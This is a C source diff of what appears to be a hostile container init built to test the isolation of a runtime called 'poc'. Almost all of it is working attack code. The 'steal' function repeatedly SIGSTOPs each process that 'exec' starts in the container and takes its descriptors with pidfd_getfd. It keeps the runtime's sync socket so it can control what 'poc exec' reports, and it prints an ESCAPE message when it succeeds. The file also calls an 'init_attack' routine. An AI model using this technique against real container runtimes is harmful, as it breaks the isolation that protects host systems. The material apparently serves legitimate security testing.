@@ -149,16 +149,16 @@ static int past_stub(int pid) {
 }
 
 /*
- * steal COUNT: the container's init waits for each process `exec` starts in it (the next pid) and
- * stops it again and again (SIGSTOP lands on the way back from a system call: right after an exec,
+ * steal: the container's init waits for each process `exec` starts in it (the next pid) and stops
+ * it again and again (SIGSTOP lands on the way back from a system call: right after an exec,
  * before the new program's first instruction), each time trying to take its descriptors with
  * pidfd_getfd, which a dumpable process of the same user allows. A socket taken is poc's sync
- * channel: whoever holds it decides when `poc exec` returns, and what it reports. Watches COUNT
- * processes, then says so and sleeps.
+ * channel: whoever holds it decides when `poc exec` returns, and what it reports. One line per
+ * process watched.
  */
-static int steal(int count) {
-  int next = getpid() + 1, stolen = 0;
-  for (int watched = 0; watched < count;) {
+__attribute__((noreturn)) static void steal(void) {
+  int next = getpid() + 1;
+  for (;;) {
     int pidfd = syscall(SYS_pidfd_open, next, 0);
     if (pidfd < 0) {
       /* Not there yet; a pid skipped (a process that came and went) moves us on. */
@@ -166,15 +166,16 @@ static int steal(int count) {
         next++;
       continue;
     }
+    int stops = 0, stolen = 0;
     for (;;) {
       if (syscall(SYS_pidfd_send_signal, pidfd, SIGSTOP, NULL, 0) < 0)
         break;
+      stops++;
       for (int spin = 0; spin < 100000; spin++) {
         char s = state_of(next);
         if (s == 'T' || s == 't' || s == 'Z' || s == 0)
           break;
       }
-      int got = 0;
       for (int fd = 3; fd < 32; fd++) {
         int mine = syscall(SYS_pidfd_getfd, pidfd, fd, 0);
         if (mine < 0)
@@ -183,26 +184,22 @@ static int steal(int count) {
         if (fstat(mine, &st) == 0 && S_ISSOCK(st.st_mode)) {
           printf("ESCAPE took socket descriptor %d of exec'd process %d\n", fd, next);
           fflush(stdout);
-          got = 1;
-          stolen++;
+          stolen = 1;
           /* Kept open: the process's parent waits for this socket's end. */
         } else {
           close(mine);
         }
       }
-      int done = got || past_stub(next);
+      int done = stolen || past_stub(next);
       syscall(SYS_pidfd_send_signal, pidfd, SIGCONT, NULL, 0);
       if (done || state_of(next) == 0)
         break;
     }
     close(pidfd);
+    printf("watched %d: %d stops\n", next, stops);
+    fflush(stdout);
     next++;
-    watched++;
   }
-  printf("steal done %d\n", stolen);
-  fflush(stdout);
-  for (;;)
-    pause();
 }
 
 int main(int argc, char **argv) {
@@ -216,8 +213,8 @@ int main(int argc, char **argv) {
   if (!strcmp(cmd, "init") && argc == 7)
     return init_attack(atoi(argv[2]), argv[3], argv[4], (dev_t)strtoull(argv[5], 0, 10),
                        (ino_t)strtoull(argv[6], 0, 10));
-  if (!strcmp(cmd, "steal") && argc == 3)
-    return steal(atoi(argv[2]));
+  if (!strcmp(cmd, "steal"))
+    steal();
   fprintf(stderr, "oci: bad arguments for %s\n", cmd);
   return 2;
 }
